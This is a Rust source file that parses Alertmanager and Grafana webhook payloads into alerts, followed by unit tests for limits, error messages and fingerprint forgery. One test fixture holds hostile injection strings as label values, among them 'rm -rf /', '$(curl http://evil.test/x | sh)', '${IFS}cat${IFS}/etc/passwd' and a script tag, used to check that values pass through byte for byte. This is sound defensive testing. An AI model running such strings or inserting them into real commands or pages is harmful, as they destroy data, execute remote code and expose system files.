//! Alertmanager webhook payload (version 4) → canonical alerts; also the parser of the
//! Alertmanager-shaped alert list that Grafana reuses. It must never refuse a field it does
//! not know (newer Alertmanagers add some) and never rewrite label or annotation text.
//!
//! Shape (prometheus/alertmanager `notify/webhook/webhook.go` `Message`, embedding
//! `template/template.go` `Data`): `version`, `groupKey`, `truncatedAlerts`, `status`,
//! `receiver`, `groupLabels`, `commonLabels`, `commonAnnotations`, `externalURL`, and
//! `alerts[]` of `status`, `labels`, `annotations`, `startsAt`, `endsAt`, `generatorURL`,
//! `fingerprint`. Only what salve uses is checked; the group-level maps are ignored
//! because every alert carries its own complete labels.

use serde_json::{Map, Value};

use super::json::{self, NameRule};
use super::{IntakeError, Limits, Notification};
use crate::alert::{Alert, Fingerprint, Source};

/// The only webhook payload version salve speaks (Alertmanager ≥ 0.12 sends "4").
pub const VERSION: &str = "4";

pub fn parse(body: &[u8], limits: &Limits) -> Result<Notification, IntakeError> {
    parse_value(&json::parse_body(body)?, limits)
}

pub(super) fn parse_value(document: &Value, limits: &Limits) -> Result<Notification, IntakeError> {
    let top = json::expect_object(document, "")?;
    let version = json::expect_str(json::required(top, "", "version")?, "version")?;
    if version != VERSION {
        return Err(IntakeError::Unsupported(format!(
            "version: Alertmanager webhook version {} is not supported (expected \"{VERSION}\")",
            json::quote(version)
        )));
    }
    parse_monitor_payload(top, Source::Alertmanager, limits)
}

/// The part common to Alertmanager and Grafana: `externalURL`, `truncatedAlerts` and the
/// `alerts` list, each alert tagged with `source`.
pub(super) fn parse_monitor_payload(
    top: &Map<String, Value>,
    source: Source,
    limits: &Limits,
) -> Result<Notification, IntakeError> {
    let external_url = json::optional_text(top, "", "externalURL", limits)?;
    let truncated_alerts = json::optional_count(top, "", "truncatedAlerts")?;
    let list = json::expect_array(json::required(top, "", "alerts")?, "alerts")?;
    if list.len() > limits.max_alerts {
        return Err(IntakeError::TooLarge(format!(
            "alerts: {} alerts exceed the limit of {} (max_alerts)",
            list.len(),
            limits.max_alerts
        )));
    }
    let alerts = list
        .iter()
        .enumerate()
        .map(|(index, value)| {
            let path = json::element("alerts", index);
            parse_monitor_alert(value, &path, source, external_url.as_deref(), limits)
        })
        .collect::<Result<Vec<_>, _>>()?;
    Ok(Notification {
        alerts,
        truncated_alerts,
    })
}

fn parse_monitor_alert(
    value: &Value,
    path: &str,
    source: Source,
    external_url: Option<&str>,
    limits: &Limits,
) -> Result<Alert, IntakeError> {
    let object = json::expect_object(value, path)?;
    let field = |key: &str| json::child(path, key);

    // The payload's own status is kept even when it disagrees with endsAt: Alertmanager
    // decides what is resolved, salve does not second-guess it with its own clock.
    let status = json::status(json::required(object, path, "status")?, &field("status"))?;
    let labels = json::string_map(
        json::required(object, path, "labels")?,
        &field("labels"),
        NameRule::NonEmpty,
        limits,
    )?;
    let annotations =
        json::optional_string_map(object, path, "annotations", NameRule::NonEmpty, limits)?;
    // A zero startsAt (never sent by Alertmanager, possible from Grafana test sends)
    // becomes None rather than a year-1 incident key.
    let starts_at = json::time(
        json::required(object, path, "startsAt")?,
        &field("startsAt"),
    )?;
    let ends_at = json::optional_time(object, path, "endsAt")?;
    let generator_url = json::optional_text(object, path, "generatorURL", limits)?;
    // The sender's `fingerprint` is never read: the identity is computed from the labels,
    // so a notification cannot claim another alert's incident. Alertmanager's own always
    // matches (same algorithm, same labels); Grafana computes its fingerprint over labels
    // it strips from the payload (`__alert_rule_uid__`…), so a sent one that disagrees is
    // not an error worth refusing a real page for (and a 4xx makes Alertmanager re-send
    // the whole group forever) — it is ignored.
    let fingerprint = Fingerprint::of_labels(&labels);
    Ok(Alert {
        source,
        fingerprint,
        status,
        labels,
        annotations,
        starts_at,
        ends_at,
        generator_url,
        external_url: external_url.map(str::to_owned),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::alert::AlertStatus;
    use crate::intake::test_support::{fixture, strings, utc};
    use serde_json::json;

    /// The exact bytes Alertmanager 0.25 sent, from the capture's `body_raw`.
    fn captured(name: &str) -> Vec<u8> {
        let capture: Value = serde_json::from_slice(&fixture(name)).unwrap();
        capture["body_raw"].as_str().unwrap().as_bytes().to_vec()
    }

    fn disk_full(status: AlertStatus, ends_at: Option<&str>) -> Alert {
        Alert {
            source: Source::Alertmanager,
            fingerprint: Fingerprint::parse("10fd2ebfb5d5241b").unwrap(),
            status,
            labels: strings(&[
                ("alertname", "DiskFull"),
                ("instance", "host1:9100"),
                ("job", "node"),
                ("severity", "critical"),
            ]),
            annotations: strings(&[("runbook", "clean-tmp"), ("summary", "Disk / is 97% full")]),
            starts_at: Some(utc("2026-11-28T01:28:37.859Z")),
            ends_at: ends_at.map(utc),
            generator_url: Some("http://prometheus.test/graph?g0.expr=disk".into()),
            external_url: Some("http://vm:19093".into()),
        }
    }

    /// A minimal valid payload around `alerts`, with every top-level field present.
    fn payload(alerts: Value) -> Vec<u8> {
        serde_json::to_vec(&json!({
            "receiver": "hook", "status": "firing", "alerts": alerts,
            "groupLabels": {}, "commonLabels": {}, "commonAnnotations": {},
            "externalURL": "http://am:9093", "version": "4", "groupKey": "{}:{}",
            "truncatedAlerts": 0
        }))
        .unwrap()
    }

    fn alert(labels: Value) -> Value {
        json!({
            "status": "firing", "labels": labels, "annotations": {},
            "startsAt": "2026-11-28T01:28:37.859Z", "endsAt": "0001-01-01T00:00:00Z",
            "generatorURL": "", "fingerprint": "0123456789abcdef"
        })
    }

    fn reason(body: &[u8]) -> String {
        parse(body, &Limits::default()).unwrap_err().to_string()
    }

    /// The capture `name` parses into exactly one alert, `expected`.
    #[track_caller]
    fn check_capture(name: &str, expected: Alert) {
        let notification = parse(&captured(name), &Limits::default());
        let expected = Notification {
            alerts: vec![expected],
            truncated_alerts: 0,
        };
        assert_eq!(notification.unwrap(), expected);
    }

    #[test]
    fn captured_firing_notification_parses_exactly() {
        check_capture(
            "alertmanager-0.25-firing.json",
            disk_full(AlertStatus::Firing, None),
        );
    }

    #[test]
    fn captured_resolved_notification_parses_exactly() {
        check_capture(
            "alertmanager-0.25-resolved.json",
            disk_full(AlertStatus::Resolved, Some("2026-11-28T01:28:42.866Z")),
        );
    }

    #[test]
    fn nine_fractional_digits_and_go_zero_end() {
        let mut one = alert(json!({"alertname": "A"}));
        one["startsAt"] = json!("2026-11-28T01:28:37.123456789Z");
        let parsed = parse(&payload(json!([one])), &Limits::default()).unwrap();
        let alert = &parsed.alerts[0];
        assert_eq!(
            alert.starts_at.unwrap().timestamp_subsec_nanos(),
            123_456_789
        );
        assert_eq!(alert.ends_at, None);
        assert_eq!(alert.generator_url, None, "empty generatorURL means none");
    }

    #[test]
    fn firing_with_a_past_end_stays_firing() {
        let mut one = alert(json!({"alertname": "A"}));
        one["endsAt"] = json!("2000-01-01T00:00:00Z");
        let parsed = parse(&payload(json!([one])), &Limits::default()).unwrap();
        assert_eq!(parsed.alerts[0].status, AlertStatus::Firing);
        assert_eq!(parsed.alerts[0].ends_at, Some(utc("2000-01-01T00:00:00Z")));
    }

    #[test]
    fn unknown_fields_are_tolerated_and_truncation_is_carried() {
        let mut one = alert(json!({"alertname": "A"}));
        one["somethingNew"] = json!({"nested": [1, 2]});
        let mut document: Value = serde_json::from_slice(&payload(json!([one]))).unwrap();
        document["truncatedAlerts"] = json!(7);
        document["futureTopLevel"] = json!(true);
        let parsed = parse(&serde_json::to_vec(&document).unwrap(), &Limits::default()).unwrap();
        assert_eq!(parsed.truncated_alerts, 7);
        assert_eq!(parsed.alerts.len(), 1);
    }

    #[test]
    fn the_fingerprint_is_computed_from_the_labels_whatever_was_sent() {
        let labels = json!({"alertname": "DiskFull", "instance": "host1:9100", "job": "node", "severity": "critical"});
        // Missing, empty, null, another alert's, not hex, not even a string, huge: the
        // identity is the labels' own.
        for fingerprint in [
            None,
            Some(json!("")),
            Some(Value::Null),
            Some(json!("0123456789abcdef")),
            Some(json!("a b")),
            Some(json!(42)),
            Some(json!({"nested": [1]})),
            Some(json!("f".repeat(100_000))),
        ] {
            let mut one = alert(labels.clone());
            match &fingerprint {
                None => drop(one.as_object_mut().unwrap().remove("fingerprint")),
                Some(value) => one["fingerprint"] = value.clone(),
            }
            let parsed = parse(&payload(json!([one])), &Limits::default()).unwrap();
            assert_eq!(
                parsed.alerts[0].fingerprint.as_str(),
                "10fd2ebfb5d5241b",
                "{fingerprint:?}"
            );
        }
    }

    #[test]
    fn an_alert_sent_with_another_alerts_fingerprint_keeps_its_own_identity() {
        let victim = parse(&payload(json!([alert(json!({"alertname": "DiskFull", "instance": "host1:9100", "job": "node", "severity": "critical"}))])), &Limits::default()).unwrap();
        let mut forged = alert(json!({"alertname": "DiskFull", "instance": "evil:9100"}));
        forged["fingerprint"] = json!("10fd2ebfb5d5241b");
        let forged = parse(&payload(json!([forged])), &Limits::default()).unwrap();
        assert_ne!(victim.alerts[0].fingerprint, forged.alerts[0].fingerprint);
        assert_eq!(
            forged.alerts[0].fingerprint,
            Fingerprint::of_labels(&forged.alerts[0].labels)
        );
    }

    #[test]
    fn missing_or_null_annotations_are_empty() {
        let mut absent = alert(json!({"alertname": "A"}));
        absent.as_object_mut().unwrap().remove("annotations");
        let mut nulled = alert(json!({"alertname": "B"}));
        nulled["annotations"] = Value::Null;
        let parsed = parse(&payload(json!([absent, nulled])), &Limits::default()).unwrap();
        assert!(parsed.alerts.iter().all(|a| a.annotations.is_empty()));
    }

    #[test]
    fn version_must_be_4() {
        let mut document: Value = serde_json::from_slice(&payload(json!([]))).unwrap();
        document["version"] = json!("3");
        let error = parse(&serde_json::to_vec(&document).unwrap(), &Limits::default()).unwrap_err();
        assert_eq!(
            error,
            IntakeError::Unsupported(
                "version: Alertmanager webhook version \"3\" is not supported (expected \"4\")"
                    .into()
            )
        );
        document["version"] = json!(4);
        let body = serde_json::to_vec(&document).unwrap();
        assert_eq!(reason(&body), "version: expected a string, found number");
        document.as_object_mut().unwrap().remove("version");
        let body = serde_json::to_vec(&document).unwrap();
        assert_eq!(reason(&body), "version: missing");
    }

    #[test]
    fn shape_errors_name_the_json_path() {
        let cases: Vec<(Value, &str)> = vec![
            (json!("x"), "alerts: expected a list, found string"),
            (json!([1]), "alerts[0]: expected an object, found number"),
            (
                json!([alert(json!({"a": "b"})), alert(json!(["x"]))]),
                "alerts[1].labels: expected a map of strings, found array",
            ),
            (
                json!([alert(json!({"alertname": 5}))]),
                "alerts[0].labels.alertname: expected a string, found number",
            ),
            (
                json!([alert(json!({"": "x"}))]),
                "alerts[0].labels: empty name",
            ),
            (
                json!([alert(json!({"a": "b"})), alert(json!({"a": "b"})), {
                    "status": "firing", "labels": {}, "startsAt": "x"
                }]),
                "alerts[2].startsAt: invalid RFC 3339 time \"x\"",
            ),
            (
                json!([{"status": "burning", "labels": {}, "startsAt": "2026-01-01T00:00:00Z"}]),
                "alerts[0].status: expected \"firing\" or \"resolved\", found \"burning\"",
            ),
            (json!([{"labels": {}}]), "alerts[0].status: missing"),
            (json!([{"status": "firing"}]), "alerts[0].labels: missing"),
            (
                json!([{"status": "firing", "labels": {}}]),
                "alerts[0].startsAt: missing",
            ),
        ];
        for (alerts, expected) in cases {
            let got = reason(&payload(alerts));
            assert!(
                got.starts_with(expected),
                "got {got:?}, expected {expected:?}"
            );
        }
    }

    #[test]
    fn truncated_alerts_saturate_and_errors_never_echo_much() {
        let truncated = |value: &str| {
            let mut text = String::from_utf8(payload(json!([]))).unwrap();
            text = text.replace(
                "\"truncatedAlerts\":0",
                &format!("\"truncatedAlerts\":{value}"),
            );
            parse(text.as_bytes(), &Limits::default()).map(|n| n.truncated_alerts)
        };
        assert_eq!(truncated("18446744073709551615"), Ok(u64::MAX));
        assert_eq!(truncated("18446744073709551616"), Ok(u64::MAX));
        assert_eq!(truncated(&"9".repeat(300)), Ok(u64::MAX));
        assert_eq!(truncated("-1"), Ok(0));
        assert_eq!(truncated("-99999999999999999999999"), Ok(0));
        // A number given as a huge string is refused, and the reason stays short.
        let why = truncated(&format!("\"{}\"", "9".repeat(1 << 20)))
            .unwrap_err()
            .to_string();
        assert_eq!(
            why,
            "truncatedAlerts: expected a non-negative integer, found string"
        );

        // Huge strings in every field that is quoted back stay bounded.
        let huge = "\u{1b}]8;;http://evil/\u{7}".repeat(20_000);
        let mut document: Value = serde_json::from_slice(&payload(json!([]))).unwrap();
        document["version"] = json!(huge);
        let why = parse(&serde_json::to_vec(&document).unwrap(), &Limits::default())
            .unwrap_err()
            .to_string();
        assert!(why.len() < 300, "{why}");
        assert!(!why.contains('\u{1b}'), "{why:?}");
        let mut one = alert(json!({"alertname": "A"}));
        one["startsAt"] = json!(huge);
        let why = reason(&payload(json!([one])));
        assert!(why.len() < 300 && !why.contains('\u{7}'), "{why:?}");
        let mut one = alert(json!({"alertname": "A"}));
        one["status"] = json!("9".repeat(1 << 20));
        let why = reason(&payload(json!([one])));
        assert!(why.len() < 300, "{why}");
        assert!(why.ends_with("…(1048576 bytes)"), "{why}");
        // A huge label name, over the name limit: quoted, bounded.
        let name = "n".repeat(100_000);
        let why = reason(&payload(json!([alert(json!({ name: "v" }))])));
        assert!(why.len() < 400, "{why}");
        // Deeply nested values are refused by the JSON reader with line and column only.
        let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
        let mut text = String::from_utf8(payload(json!([]))).unwrap();
        text = text.replace(
            "\"truncatedAlerts\":0",
            &format!("\"truncatedAlerts\":{deep}"),
        );
        let why = reason(text.as_bytes());
        assert!(why.len() < 200, "{why}");
    }

    #[test]
    fn every_limit_is_enforced_and_named() {
        let limits = Limits {
            max_alerts: 2,
            max_labels: 2,
            max_name_bytes: 8,
            max_value_bytes: 16,
        };
        let too_large = |body: Vec<u8>| match parse(&body, &limits) {
            Err(IntakeError::TooLarge(reason)) => reason,
            other => panic!("expected TooLarge, got {other:?}"),
        };
        let ok = alert(json!({"a": "b"}));
        assert!(
            parse(&payload(json!([ok, ok])), &limits).is_ok(),
            "at the limits is fine"
        );

        let reason = too_large(payload(json!([ok, ok, ok])));
        assert_eq!(
            reason,
            "alerts: 3 alerts exceed the limit of 2 (max_alerts)"
        );

        let reason = too_large(payload(json!([
            ok,
            alert(json!({"a": "1", "b": "2", "c": "3"}))
        ])));
        assert_eq!(
            reason,
            "alerts[1].labels: 3 entries exceed the limit of 2 (max_labels)"
        );

        let mut many_annotations = ok.clone();
        many_annotations["annotations"] = json!({"a": "1", "b": "2", "c": "3"});
        let reason = too_large(payload(json!([many_annotations])));
        assert_eq!(
            reason,
            "alerts[0].annotations: 3 entries exceed the limit of 2 (max_labels)"
        );

        let reason = too_large(payload(json!([alert(json!({"ninebytes": "x"}))])));
        assert_eq!(
            reason,
            "alerts[0].labels: name \"ninebytes\" is 9 bytes, over the limit of 8 (max_name_bytes)"
        );

        let reason = too_large(payload(json!([alert(json!({"a": "seventeen bytes!!"}))])));
        assert_eq!(
            reason,
            "alerts[0].labels.a: value is 17 bytes, over the limit of 16 (max_value_bytes)"
        );

        let mut long_url = ok.clone();
        long_url["generatorURL"] = json!("http://x/seventeen");
        let reason = too_large(payload(json!([long_url])));
        assert!(
            reason.starts_with("alerts[0].generatorURL: value is 18 bytes"),
            "{reason}"
        );

        let mut document: Value = serde_json::from_slice(&payload(json!([ok]))).unwrap();
        document["externalURL"] = json!("http://am.example:9093");
        let reason = too_large(serde_json::to_vec(&document).unwrap());
        assert!(
            reason.starts_with("externalURL: value is 22 bytes"),
            "{reason}"
        );
    }

    #[test]
    fn a_nul_character_anywhere_is_refused_with_its_field() {
        for (body, field) in [
            (
                r#"{"version":"4","status":"firing","alerts":[{"status":"firing","labels":{"alertname":"A\u0000B"}}]}"#,
                "alerts[0].labels.alertname",
            ),
            (
                r#"{"version":"4","status":"firing","alerts":[{"status":"firing","labels":{"a":"b"},"annotations":{"x\u0000":"y"}}]}"#,
                "alerts[0].annotations",
            ),
        ] {
            let error = parse(body.as_bytes(), &Limits::default()).unwrap_err();
            let text = error.to_string();
            assert!(text.contains(field) && text.contains("NUL"), "{text}");
        }
    }

    #[test]
    fn hostile_values_pass_through_byte_for_byte() {
        let path = format!(
            "{}/tests/fixtures/intake/alertmanager-hostile-values.json",
            env!("CARGO_MANIFEST_DIR")
        );
        let parsed = parse(&std::fs::read(path).unwrap(), &Limits::default()).unwrap();
        let labels = &parsed.alerts[0].labels;
        assert_eq!(labels["service"], "nginx; rm -rf / #");
        assert_eq!(labels["instance"], "$(curl http://evil.test/x | sh)");
        assert_eq!(labels["job"], "`reboot`");
        assert_eq!(labels["path"], "/var/log/'quoted' \"double\" \\back");
        assert_eq!(labels["multi"], "line1\nline2\r\n\ttabbed");
        assert_eq!(labels["unicode"], "ディスク 💥 \u{202e}gnp.exe");
        assert_eq!(labels["spaces"], "  padded  ");
        let annotations = &parsed.alerts[0].annotations;
        assert_eq!(
            annotations["summary"],
            "<script>alert(1)</script> & {{ .Labels }}"
        );
        assert_eq!(annotations["description"], "${IFS}cat${IFS}/etc/passwd");
        // A label name Alertmanager would not produce itself is still accepted.
        assert_eq!(parsed.alerts[1].labels["weird-name.with dots"], "v");
    }
}
